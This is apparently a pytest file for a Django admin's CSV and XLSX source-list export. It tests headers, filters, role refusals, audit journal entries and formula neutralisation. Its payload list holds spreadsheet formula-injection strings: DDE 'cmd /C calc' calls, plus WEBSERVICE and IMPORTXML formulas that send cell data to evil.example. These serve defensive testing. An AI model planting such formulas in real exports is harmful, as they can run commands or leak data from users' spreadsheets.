import csv
import io

import pytest
from openpyxl import load_workbook

from caucus_site.core.admin import exports
from caucus_site.core.models import JournalEntry, Source
from tests.factories.core import SourceFactory

pytestmark = pytest.mark.django_db

CSV, XLSX = "/admin/core/source/export/csv/", "/admin/core/source/export/xlsx/"
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\x00=", "\x01=", "\x0b=", "\x00\x00@"]
PAYLOADS = [f"{start}1+cmd|' /C calc'!A0" for start in STARTS] + [
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    'x";=1+1',
    "x,=1+1",
    "x;=1+1",
    "x\n=1+1",
]


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_rows(response):
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in book.active.iter_rows()]


def test_there_are_24_payloads():
    assert len(set(PAYLOADS)) == 24


def test_a_list_as_csv(staff_client):
    source = SourceFactory(title="ភាសាខ្មែរ", published_on="May 2011", author="A", is_public=False)

    response = staff_client.get(CSV)

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response.headers["Cache-Control"]
    assert response.headers["Content-Disposition"].startswith('attachment; filename="source-')
    assert csv_rows(response) == [
        ["id", "Title", "Kind", "Author or speaker", "Publisher", "Published or held on", "Public"],
        [str(source.public_id), "ភាសាខ្មែរ", "Publication", "A", "", "2011-05", "no"],
    ]


def test_the_list_goes_out_as_filtered_and_searched(staff_client):
    SourceFactory(title="wanted", kind="news")
    SourceFactory(title="wanted", kind="interview")
    SourceFactory(title="other", kind="news")

    rows = csv_rows(staff_client.get(CSV, {"kind__exact": "news", "q": "wanted"}))

    assert [row[1:3] for row in rows[1:]] == [["wanted", "News report"]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_in_csv(staff_client, payload):
    text = payload.replace("\x00", "")
    SourceFactory(title=text, author=text)

    response = staff_client.get(CSV)

    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    for dialect in (",", ";", "\t"):
        # Whatever separator the reader's spreadsheet takes, quoted text stays one cell.
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=dialect):
            for cell in row:
                assert not cell.startswith(exports.FORMULA_STARTS), (dialect, row)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_in_xlsx(staff_client, payload):
    text = payload.replace("\x00", "")
    SourceFactory(title=text, author=text)

    rows = xlsx_rows(staff_client.get(XLSX))

    for row in rows:
        for cell in row:
            assert cell.data_type != "f"
            assert not str(cell.value or "").startswith(exports.FORMULA_STARTS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_made_harmless_wherever_it_comes_from(payload):
    assert not exports.harmless(payload).startswith(exports.FORMULA_STARTS)


def test_numbers_stay_numbers():
    assert exports.harmless(-5) == -5
    assert exports.harmless("plain") == "plain"


def test_text_that_looks_like_markup_is_kept(staff_client):
    SourceFactory(title="if a < b and c > d")

    assert csv_rows(staff_client.get(CSV))[1][1] == "if a < b and c > d"


@pytest.mark.parametrize("address", [CSV, XLSX])
def test_who_may_look_but_not_export_is_told_so(superadmin_client, address):
    SourceFactory(title="canary-8e8e")

    response = superadmin_client.get(address)

    assert response.status_code == 403
    sentence = "Your role may look at sources but not export them. Ask an officer whose duty it is."
    assert sentence in response.content.decode()
    assert b"canary" not in response.content
    assert not JournalEntry.objects.exists()
    assert "export/csv" not in superadmin_client.get("/admin/core/source/").content.decode()


def test_every_export_is_in_the_journal(staff_client, secretariat):
    SourceFactory.create_batch(3, kind="news")

    staff_client.get(CSV, {"kind__exact": "news", "q": "canary-9f9f"})

    entry = JournalEntry.objects.get()
    assert (entry.verb, entry.actor_id) == ("record.list_exported", secretariat.pk)
    assert entry.details == {"model": "core.source", "form": "csv", "rows": 0, "filters": ["kind__exact", "q"]}


@pytest.mark.parametrize("form", ["pdf", "exe"])
def test_forms_that_are_not_there_are_refused(staff_client, form):
    assert staff_client.get(f"/admin/core/source/export/{form}/").status_code == 403


@pytest.mark.parametrize("query", [{"is_public__exact": "maybe"}, {"kind__exact__x": "1"}])
def test_a_filter_that_is_none_exports_nothing(staff_client, query):
    SourceFactory()

    response = staff_client.get(CSV, query)

    assert response.status_code in {302, 400}
    assert not JournalEntry.objects.exists()


@pytest.mark.parametrize("rows", [1, 40])
def test_an_export_costs_the_same_number_of_queries(staff_client, rows, django_assert_num_queries):
    SourceFactory.create_batch(rows)

    with django_assert_num_queries(8):
        exported = csv_rows(staff_client.get(CSV))

    assert len(exported) == rows + 1 == Source.objects.count() + 1
